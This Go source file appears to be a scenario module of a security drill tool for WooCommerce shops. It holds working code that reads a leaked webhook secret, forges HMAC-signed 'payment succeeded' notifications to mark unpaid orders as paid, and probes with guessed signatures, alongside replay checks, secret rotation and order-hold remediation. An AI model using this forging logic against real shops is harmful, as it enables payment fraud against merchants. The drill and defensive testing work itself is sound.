package scenarios

import (
	"cmp"
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"regexp"
	"strconv"
	"strings"
	"time"

	"github.com/breachdrill/breachdrill/internal/clip"
)

// Payment gateways sign their webhooks the way Stripe does: a header
// "t=<unix time>,v1=<hex HMAC-SHA256 of "<t>.<body>" with the webhook
// secret>". Whoever holds the secret can write any payment event.
func signWebhook(secret string, at time.Time, body []byte) string {
	t := strconv.FormatInt(at.Unix(), 10)
	mac := hmac.New(sha256.New, []byte(secret))
	mac.Write([]byte(t + "."))
	mac.Write(body)
	return "t=" + t + ",v1=" + hex.EncodeToString(mac.Sum(nil))
}

type orderCreate struct {
	Count         int    `yaml:"count" default:"3" min:"1" max:"50" doc:"how many orders"`
	PaymentMethod string `yaml:"payment_method" bd:"required" doc:"gateway id the orders are placed with (acmepay, cod, ...)"`
	Status        string `yaml:"status" default:"pending" enum:"pending,on-hold,failed" doc:"status the orders are left in: unpaid"`
}

var orderStatuses = []string{"pending", "on-hold", "failed"}

func (a *orderCreate) validate() error {
	if a.Count < 0 || a.Count > 50 {
		return fmt.Errorf("count %d: use 1 to 50", a.Count)
	}
	if a.Status != "" && !contains(orderStatuses, a.Status) {
		return fmt.Errorf("status %q: use one of %s (an unpaid order)", a.Status, strings.Join(orderStatuses, ", "))
	}
	return nil
}

func (a *orderCreate) count() int {
	if a.Count == 0 {
		return 3
	}
	return a.Count
}

func (a *orderCreate) status() string { return cmp.Or(a.Status, "pending") }

func (a *orderCreate) Describe() string {
	return fmt.Sprintf("place %d orders with %s and leave them %s (unpaid), as a guest who never pays", a.count(), a.PaymentMethod, a.status())
}

// Run places the orders through WooCommerce's own API, a product of the
// shop in each and a guest's address at a reserved domain.
func (a *orderCreate) Run(ctx context.Context, env *Env) error {
	out, err := env.php(ctx, `$n = (int) $argv[1]; $pm = $argv[2]; $status = $argv[3];
$products = wc_get_products(array('limit' => 1, 'status' => 'publish', 'type' => 'simple', 'orderby' => 'ID', 'order' => 'ASC'));
if (!$products) { fwrite(STDERR, "the shop has no product"); exit(3); }
$gws = WC()->payment_gateways()->payment_gateways();
$ids = array();
for ($i = 1; $i <= $n; $i++) {
	$o = wc_create_order();
	$o->add_product($products[0], 1);
	$o->set_address(array('first_name' => 'Guest', 'last_name' => 'Buyer ' . $i, 'email' => 'guest-buyer-' . $i . '@example.com',
		'address_1' => $i . ' Sample Street', 'city' => 'Berlin', 'postcode' => '10115', 'country' => 'DE', 'state' => 'DE-BE'), 'billing');
	$o->set_payment_method(isset($gws[$pm]) ? $gws[$pm] : $pm);
	$o->calculate_totals();
	$o->set_status($status);
	$o->save();
	$ids[] = $o->get_id();
}
echo implode(',', $ids);`, strconv.Itoa(a.count()), a.PaymentMethod, a.status())
	if err != nil {
		return fmt.Errorf("place orders: %w", err)
	}
	if strings.TrimSpace(out) == "" {
		return errors.New("place orders: WooCommerce made none")
	}
	return nil
}

// forgedRequest is a webhook call as sent, kept so a check can replay it.
type forgedRequest struct {
	Path    string            `json:"path"`
	Peer    bool              `json:"peer"`
	Headers map[string]string `json:"headers"`
	Body    []byte            `json:"body"`
	Secret  string            `json:"secret"`
	Header  string            `json:"header"`
}

const forgedState = "webhook:last-forged"

type webhookForge struct {
	Path          string `yaml:"path" bd:"required" pattern:"^/" doc:"the gateway's webhook endpoint on the stack"`
	SecretFrom    string `yaml:"secret_from" bd:"required" tmpl:"yes" pattern:"^/" doc:"path on the stack where the secret leaked (a debug log, an options dump); fetched over HTTP as the attacker would"`
	SecretPattern string `yaml:"secret_pattern" bd:"required" doc:"regular expression whose first group is the secret in that page"`
	Header        string `yaml:"header" default:"Acme-Pay-Signature" doc:"header the signature goes in (t=<unix>,v1=<hex HMAC-SHA256 of \"t.body\">)"`
	Event         string `yaml:"event" default:"payment_intent.succeeded" doc:"event type written into each notification"`
	PaymentMethod string `yaml:"payment_method" bd:"required" doc:"gateway id: the unpaid orders of this gateway are the ones marked paid"`
	Orders        int    `yaml:"orders" default:"3" min:"1" max:"50" doc:"how many unpaid orders to mark paid"`
	BadSignatures int    `yaml:"bad_signatures" default:"0" min:"0" max:"20" doc:"calls signed with a guessed secret first, as an attacker probing the endpoint (each should get 401)"`
	From          string `yaml:"from" default:"host" enum:"host,peer" doc:"host: through 127.0.0.1; peer: from another container of the run, an address the processor never uses (needs precondition peer)"`
}

func (a *webhookForge) validate() error {
	re, err := regexp.Compile(a.SecretPattern)
	if err != nil {
		return fmt.Errorf("secret_pattern: %v", err)
	}
	if re.NumSubexp() < 1 {
		return errors.New("secret_pattern: put the secret in a group, like 'webhook_secret\":\"([^\"]+)'")
	}
	if a.Orders < 0 || a.Orders > 50 {
		return fmt.Errorf("orders %d: use 1 to 50", a.Orders)
	}
	if a.BadSignatures < 0 || a.BadSignatures > 20 {
		return fmt.Errorf("bad_signatures %d: use 0 to 20", a.BadSignatures)
	}
	if a.From != "" && a.From != "host" && a.From != "peer" {
		return fmt.Errorf("from %q: use host or peer", a.From)
	}
	return nil
}

func (a *webhookForge) header() string { return cmp.Or(a.Header, "Acme-Pay-Signature") }
func (a *webhookForge) event() string  { return cmp.Or(a.Event, "payment_intent.succeeded") }
func (a *webhookForge) orders() int {
	if a.Orders == 0 {
		return 3
	}
	return a.Orders
}

func (a *webhookForge) Describe() string {
	s := fmt.Sprintf("read the webhook secret from %s, then POST %s forged %q notifications for %d unpaid %s orders", a.SecretFrom, a.Path, a.event(), a.orders(), a.PaymentMethod)
	if a.BadSignatures > 0 {
		s += fmt.Sprintf(" (after %d calls with a guessed secret)", a.BadSignatures)
	}
	if a.From == "peer" {
		s += " from another address"
	}
	return s
}

// Run is the attack: it reads the leaked secret over HTTP, probes with
// wrong signatures, and signs a "payment succeeded" event for each unpaid
// order of the gateway. Every forged call must be accepted (2xx), or the
// inject did not happen.
func (a *webhookForge) Run(ctx context.Context, env *Env) error {
	leak, err := env.send(ctx, "attacker", false, http.MethodGet, env.Expand(a.SecretFrom), nil, nil, nil)
	if err != nil {
		return err
	}
	m := regexp.MustCompile(a.SecretPattern).FindSubmatch(leak.Body)
	if leak.Status != http.StatusOK || m == nil || len(m[1]) == 0 {
		return fmt.Errorf("no webhook secret at %s (status %d): the leak the attack needs is not there", a.SecretFrom, leak.Status)
	}
	secret := string(m[1])
	env.Secret(secret)
	ids, err := unpaidOrders(ctx, env, a.PaymentMethod, a.orders())
	if err != nil {
		return err
	}
	peer := a.From == "peer"
	for i := range a.BadSignatures {
		f := a.forge(ids[i%len(ids)], "whsec_guess"+strconv.Itoa(i))
		resp, err := env.send(ctx, "webhook", peer, http.MethodPost, a.Path, nil, f.Body, f.Headers)
		if err != nil {
			return err
		}
		if resp.Status == http.StatusOK {
			return fmt.Errorf("a call signed with a guessed secret was accepted (status %d): the endpoint does not verify signatures", resp.Status)
		}
	}
	for _, id := range ids {
		f := a.forge(id, secret)
		resp, err := env.send(ctx, "webhook", peer, http.MethodPost, a.Path, nil, f.Body, f.Headers)
		if err != nil {
			return err
		}
		if resp.Status < 200 || resp.Status > 299 {
			return fmt.Errorf("forged notification for order %d answered %d: %s", id, resp.Status, clip.Line(string(resp.Body), 160))
		}
		f.Path, f.Peer = a.Path, peer
		b, _ := json.Marshal(f)
		env.setState(forgedState, string(b))
	}
	return nil
}

// forge writes one signed "payment succeeded" event for an order.
func (a *webhookForge) forge(orderID int64, secret string) forgedRequest {
	body, _ := json.Marshal(map[string]any{
		"id": "evt_" + randomToken(24), "type": a.event(), "created": time.Now().Unix(), "livemode": false,
		"data": map[string]any{"object": map[string]any{
			"id": "pi_" + randomToken(24), "status": "succeeded", "metadata": map[string]string{"order_id": strconv.FormatInt(orderID, 10)},
		}},
	})
	return forgedRequest{Body: body, Secret: secret, Header: a.header(), Headers: map[string]string{
		"Content-Type": "application/json", "User-Agent": "AcmePay/1.0 (+https://acme-pay.example.com/docs/webhooks)",
		a.header(): signWebhook(secret, time.Now(), body),
	}}
}

// unpaidOrders are the gateway's unpaid orders, oldest first, as the
// attacker who placed them knows them.
func unpaidOrders(ctx context.Context, env *Env, gateway string, n int) ([]int64, error) {
	rows, err := env.Target.DB().QueryContext(ctx, "SELECT id FROM "+env.Target.TablePrefix()+
		"wc_orders WHERE type = 'shop_order' AND payment_method = ? AND status IN ('wc-pending', 'wc-on-hold', 'wc-failed') ORDER BY id LIMIT ?", gateway, n)
	if err != nil {
		return nil, fmt.Errorf("unpaid orders: %w", err)
	}
	defer rows.Close()
	var ids []int64
	for rows.Next() {
		var id int64
		if err := rows.Scan(&id); err != nil {
			return nil, err
		}
		ids = append(ids, id)
	}
	if err := rows.Err(); err != nil {
		return nil, err
	}
	if len(ids) == 0 {
		return nil, fmt.Errorf("no unpaid %s orders to mark paid: place some first (order.create)", gateway)
	}
	return ids, nil
}

type webhookReplay struct {
	Want intList `yaml:"want" default:"[401]" doc:"statuses that mean rejected"`
}

func (c *webhookReplay) want() []int {
	if len(c.Want) == 0 {
		return []int{http.StatusUnauthorized}
	}
	return c.Want
}

func (c *webhookReplay) Describe() string {
	return fmt.Sprintf("the last forged webhook, replayed as sent and signed afresh with the leaked secret, answers %v", c.want())
}

// Check replays the last forged call byte for byte, then signs the same
// event again with the leaked secret and a current time: both must be
// rejected, so the proof does not rest on the timestamp having aged.
func (c *webhookReplay) Check(ctx context.Context, env *Env) (Result, error) {
	var f forgedRequest
	raw := env.getState(forgedState)
	if raw == "" || json.Unmarshal([]byte(raw), &f) != nil {
		return Result{Detail: "no forged webhook call to replay (webhook.forge did not run)"}, nil
	}
	replay, err := env.send(ctx, "webhook", f.Peer, http.MethodPost, f.Path, nil, f.Body, f.Headers)
	if err != nil {
		return Result{}, err
	}
	fresh := map[string]string{}
	for k, v := range f.Headers {
		fresh[k] = v
	}
	fresh[f.Header] = signWebhook(f.Secret, time.Now(), f.Body)
	resigned, err := env.send(ctx, "webhook", f.Peer, http.MethodPost, f.Path, nil, f.Body, fresh)
	if err != nil {
		return Result{}, err
	}
	detail := fmt.Sprintf("replay %d, re-signed with the leaked secret %d", replay.Status, resigned.Status)
	return Result{Pass: containsInt(c.want(), replay.Status) && containsInt(c.want(), resigned.Status), Detail: detail}, nil
}

type optionRotate struct {
	Name string   `yaml:"name" bd:"required" doc:"the option holding the secrets (an array, like woocommerce_acmepay_settings)"`
	Keys []string `yaml:"keys" bd:"required" doc:"keys of the array to give new random values; a value's prefix up to its last _ (whsec_, sk_test_) is kept"`
}

func (a *optionRotate) validate() error {
	if len(a.Keys) == 0 {
		return errors.New("keys: list the secrets to rotate, like [webhook_secret, api_key]")
	}
	return nil
}

func (a *optionRotate) Describe() string {
	return fmt.Sprintf("rotate %s in option %s", strings.Join(a.Keys, ", "), a.Name)
}

// Run gives each key a new random value through update_option(), as the
// gateway's settings screen would once the processor issued new ones.
// The new values are secrets of the run from then on.
func (a *optionRotate) Run(ctx context.Context, env *Env) error {
	fresh := map[string]string{}
	for _, k := range a.Keys {
		v := randomToken(32)
		env.Secret(v)
		fresh[k] = v
	}
	in, _ := json.Marshal(fresh)
	out, err := env.php(ctx, `$s = get_option($argv[1]);
if (!is_array($s)) { fwrite(STDERR, "option " . $argv[1] . " is not an array of settings"); exit(3); }
$missing = array();
foreach (json_decode($argv[2], true) as $k => $v) {
	if (!isset($s[$k]) || $s[$k] === '') { $missing[] = $k; continue; }
	$p = strrpos($s[$k], '_');
	$s[$k] = ($p === false ? '' : substr($s[$k], 0, $p + 1)) . $v;
}
if ($missing) { fwrite(STDERR, "no such keys: " . implode(', ', $missing)); exit(3); }
update_option($argv[1], $s);
echo 'ok';`, a.Name, string(in))
	if err != nil {
		return fmt.Errorf("rotate %s: %w", a.Name, err)
	}
	if strings.TrimSpace(out) != "ok" {
		return fmt.Errorf("rotate %s: %s", a.Name, clip.Line(out, 160))
	}
	return nil
}

type ordersHold struct {
	PaymentMethod string `yaml:"payment_method" bd:"required" doc:"gateway id whose orders are looked at"`
	Note          string `yaml:"note" default:"Payment not confirmed by the processor: held during an incident." doc:"order note saying why"`
}

func (a *ordersHold) Describe() string {
	return fmt.Sprintf("put %s orders marked paid without a transaction id on hold", a.PaymentMethod)
}

// Run holds, through WooCommerce's own API, every processing or completed
// order of the gateway that has no transaction id: paid in the shop's
// books without a capture at the processor.
func (a *ordersHold) Run(ctx context.Context, env *Env) error {
	note := cmp.Or(a.Note, "Payment not confirmed by the processor: held during an incident.")
	out, err := env.php(ctx, `$n = 0;
foreach (wc_get_orders(array('limit' => -1, 'status' => array('processing', 'completed'), 'payment_method' => $argv[1])) as $o) {
	if ($o->get_transaction_id() !== '') { continue; }
	$o->update_status('on-hold', $argv[2]);
	$n++;
}
echo $n;`, a.PaymentMethod, note)
	if err != nil {
		return fmt.Errorf("hold orders: %w", err)
	}
	if _, err := strconv.Atoi(strings.TrimSpace(out)); err != nil {
		return fmt.Errorf("hold orders: %s", clip.Line(out, 160))
	}
	return nil
}
